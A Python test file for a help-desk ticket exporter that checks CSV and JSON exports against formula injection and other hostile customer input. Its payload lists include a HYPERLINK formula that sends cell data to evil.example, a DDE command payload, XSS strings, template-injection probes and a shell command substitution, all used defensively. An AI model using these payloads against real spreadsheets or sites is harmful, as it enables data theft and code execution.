"""Tickets out of stored items, and their exports: whatever a customer writes, no spreadsheet calculates it."""

import csv
import io
import json
from typing import Any

import pytest
from afterhours import tickets
from afterhours.models import ThreadHead, ThreadStatus

NOW = 1_772_618_400_000  # 2026-03-04, 10:00 UTC
HOUR = 3_600_000
csv.field_size_limit(10_000_000)
NAME = "whatsapp.106540352242922.mfrggzdfmztwq2lkmfrggzdfmz"

FORMULAS = [
    '=HYPERLINK("//evil.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\x85=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u22121",
    "|calc",
    "%0A=1",
    "  =1+1",
    '"=1+1',
    "\u201c=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "Dear hotel,=1+1,and so on",
    "Dear hotel;=1+1;and so on",
    'He said "yes",=1+1,"no"',
    'A";=1+1;"',
    "First line\n=1+1",
    "First line\r\n\t@SUM(1)",
    "a\u2028=1+1",
    "a | =1+1 | b",
    "\u202e=1+1",
]
# The other payloads of the page that agents use: shown literally there, kept literally here.
OTHERS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "JaVa&#x09;script:alert(1)",
    "https://evil.example\\@good.example/",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{7*7}",
    "{0.__class__.__init__.__globals__}",
    "%(x)s",
    "$(id)",
    "photo\u202egpj.exe",
    "a" + "\u0301" * 10_000,
    "x" * 65_536,
    "family \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "<!channel> <@U1>",
    '\'"=1+1"',
]


def head(**changes: Any) -> ThreadHead:
    values: dict[str, Any] = {
        "status": ThreadStatus.RESOLVED,
        "inbox": "support",
        "contact_id": "385911111111",
        "contact_name": "Petra Novak",
        "language": "hr",
        "episode": 2,
        "episode_at": NOW,
        "opened_at": NOW + HOUR,
        "resolved_at": NOW + 3 * HOUR,
        "tags": ("vip", "late"),
        "kept_for": "ana",
    }
    return ThreadHead(**{**values, **changes})


def heard(text: str | None, *, at: int = NOW, **more: Any) -> dict[str, Any]:
    item = {"type": "inbound", "kind": "message", "sk": f"E#{at:013d}#I#x", "at": at, "text": text, "reply": "none"}
    return {**item, "decided_at": at, "reply_at": at, **more}


def written(text: str, *, at: int, reply: str = "sent", **more: Any) -> dict[str, Any]:
    item = {"type": "outbound", "kind": "message", "via": "agent", "sk": f"E#{at:013d}#O#x", "at": at, "owner": "ana"}
    return {**item, "reply": reply, "reply_at": at, "reply_text": text, **more}


def note(text: str, *, at: int = NOW + HOUR) -> dict[str, Any]:
    return {"type": "note", "sk": f"N#{at:013d}#x", "at": at, "by": "ivo", "text": text}


RESOLUTIONS = [
    {"episode": 2, "resolved_at": NOW + 3 * HOUR, "opened_at": NOW, "by": "ana", "csat_score": 5},
    {"episode": 1, "resolved_at": NOW - 2 * HOUR, "opened_at": NOW - 4 * HOUR, "by": "ivo"},
]


def made(
    *events: dict[str, Any], notes: tuple[dict[str, Any], ...] = (), of: ThreadHead | None = None
) -> dict[str, Any]:
    known = of or head()
    found = tickets.episode(known, RESOLUTIONS)
    emails = {"ana": "ana@example.org", "ivo": "ivo@example.org"}
    return tickets.ticket(NAME, known, found, events, notes, cut=False, agents=emails)


def test_a_ticket_has_the_fields_that_help_desks_expect() -> None:
    events = [
        heard(
            "My room\nis cold", attachments=[{"type": "image", "name": "room.jpg"}], reply="sent", reply_text="Soon."
        ),
        written("We are coming.", at=NOW + HOUR),
        written("No.", at=NOW + HOUR + 1, reply="dropped"),
    ]
    assert made(*events, notes=(note("Second floor"),)) == {
        "number": "MFRGGZDF-2",
        "external_id": NAME,
        "status": "resolved",
        "requester": {"name": "Petra Novak", "channel": "whatsapp", "account": "106540352242922"},
        "subject": "My room is cold",
        "description": "My room\nis cold",
        "comments": [
            {
                "at": NOW, "by": "contact", "author": "Petra Novak", "public": True, "text": "My room\nis cold",
                "attachments": ["room.jpg"], "state": None,
            },
            {
                "at": NOW, "by": "auto", "author": None, "public": True, "text": "Soon.", "attachments": [],
                "state": "sent",
            },
            {
                "at": NOW + HOUR, "by": "agent", "author": "ana@example.org", "public": True, "text": "We are coming.",
                "attachments": [], "state": "sent",
            },
            {
                "at": NOW + HOUR + 1, "by": "agent", "author": "ana@example.org", "public": False, "text": "No.",
                "attachments": [], "state": "dropped",
            },
        ],
        "comments_cut": False,
        "group": "support",
        "assignee": "ana@example.org",
        "internal_notes": [{"at": NOW + HOUR, "author": "ivo@example.org", "text": "Second floor"}],
        "tags": ["vip", "late"],
        "language": "hr",
        "created_at": NOW,
        "updated_at": NOW + 3 * HOUR,
        "resolved_at": NOW + 3 * HOUR,
        "due_at": None,
        "sla": None,
        "csat_score": 5,
    }  # fmt: skip


def test_a_ticket_that_is_open_says_when_it_is_due_and_who_has_it() -> None:
    found = made(heard("Hello"), of=head(status=ThreadStatus.OPEN, due_at=NOW + HOUR, sla_stage=2, owner="ivo"))
    told = (found["status"], found["due_at"], found["sla"], found["assignee"], found["resolved_at"])
    assert told == ("open", NOW + HOUR, "overdue", "ivo@example.org", None)


def test_an_episode_begins_after_the_resolution_before_it_and_at_most_a_day_before_people_were_asked() -> None:
    assert tickets.episode(head(), RESOLUTIONS).since == NOW - 2 * HOUR + 1
    assert tickets.episode(head(), RESOLUTIONS[:1]).since == NOW - 24 * HOUR
    assert tickets.episode(head(episode=3), RESOLUTIONS).resolution == {}


def test_a_note_of_an_earlier_ticket_stays_with_it() -> None:
    assert made(notes=(note("Long ago", at=NOW - 3 * HOUR),))["internal_notes"] == []


def test_a_subject_is_eighty_characters_as_people_see_them_whatever_they_are_made_of() -> None:
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467"
    assert made(heard(family * 81))["subject"] == family * 80
    assert len(made(heard("a" + "\u0301" * 10_000))["subject"]) == 400


def test_a_customer_who_sent_only_a_picture_has_a_subject_too() -> None:
    found = made(heard(None, attachments=[{"type": "image"}]))
    assert (found["subject"], found["description"]) == ("attachment", "")
    assert found["comments"][0]["attachments"] == ["image"]


def test_reactions_and_deleted_messages_are_no_comments() -> None:
    assert made(heard(None, kind="reaction"), heard(None, deleted_at=NOW))["comments"] == []


# Exports


def with_payload(text: str) -> dict[str, Any]:
    """A ticket that has the text wherever a customer or a colleague may put one."""
    event = heard(text, attachments=[{"type": "file", "name": text}])
    return made(event, notes=(note(text),), of=head(contact_name=text, tags=(text,)))


def cells(exported: str) -> list[str]:
    """What any spreadsheet may take for a cell: by RFC 4180, with another separator, or cut at lines and separators."""
    found = []
    for separator in ",;\t|":
        for rows in (exported, io.StringIO(exported, newline="")):
            lines = rows.splitlines() if isinstance(rows, str) else rows
            found += [cell for row in csv.reader(lines, delimiter=separator) for cell in row]
        found += [cell for line in exported.splitlines() for cell in line.split(separator)]
    return found


def starts_a_formula(cell: str) -> bool:
    return cell.lstrip(' \t\r\n"\u201c\u201d\ufeff\u200b\x00\u202e').startswith(tuple("=+-@|%＝＋－＠｜％−"))


@pytest.mark.parametrize("payload", FORMULAS + OTHERS)
def test_no_export_starts_a_formula(payload: str) -> None:
    ticket = with_payload(payload)
    for exported in (tickets.as_csv([ticket]), tickets.as_json([ticket])):
        assert [cell for cell in cells(exported) if starts_a_formula(cell)] == []
        assert not [sign for sign in exported if sign < " " and sign not in "\r\n"]


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_formula_is_told_from_a_text_by_the_test_itself(payload: str) -> None:
    plain = payload.replace("\r", "\n").replace("\u2028", "\n").replace("\x85", "")
    assert any(starts_a_formula(cell) for cell in [*cells(f'"{plain}"\r\n'), plain])


@pytest.mark.parametrize(
    "lead", ["=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠", "\x00", "\x1b"]
)
@pytest.mark.parametrize("before", ["", " ", '"', ' "'])
def test_a_cell_that_would_begin_a_formula_gets_an_apostrophe(lead: str, before: str) -> None:
    if before and lead in "\t\r\n\x00\x1b":
        lead += "="
    assert tickets.cell(f"{before}{lead}1").startswith("'")


@pytest.mark.parametrize("text", ["Hello", "2 + 2 = 4", "room 12-14", "a@example.org", "50 % off", "", "Čaj, molim"])
def test_an_ordinary_text_is_left_alone(text: str) -> None:
    assert tickets.cell(text) == text


def test_control_characters_and_turned_directions_are_left_out_of_csv() -> None:
    assert tickets.cell("a\x07b\x9bc\u202ed\u2066e\ud800f\r\ng\th") == "abcdef\ng h"


def test_a_cell_is_no_longer_than_spreadsheets_take() -> None:
    assert len(tickets.cell("x" * 65_536)) == tickets.CELL


def test_csv_reads_back_by_its_columns() -> None:
    text = 'She said "hello",\nand left; twice'
    [read] = csv.DictReader(io.StringIO(tickets.as_csv([made(heard(text), written("Bye", at=NOW + HOUR))]), newline=""))
    assert tuple(read) == tickets.FIELDS
    assert read["description"] == text
    assert (read["number"], read["tags"], read["created_at"]) == ("MFRGGZDF-2", "vip late", "2026-03-04T10:00:00Z")
    assert read["comments"] == (
        f"2026-03-04T10:00:00Z contact Petra Novak: {text}\n2026-03-04T11:00:00Z agent ana@example.org [sent]: Bye"
    )
    assert read["csat_score"] == "5"


@pytest.mark.parametrize("payload", FORMULAS + OTHERS)
def test_json_reads_back_as_it_was_written(payload: str) -> None:
    ticket = with_payload(payload)
    assert json.loads(tickets.as_json([ticket])) == {"tickets": [ticket]}
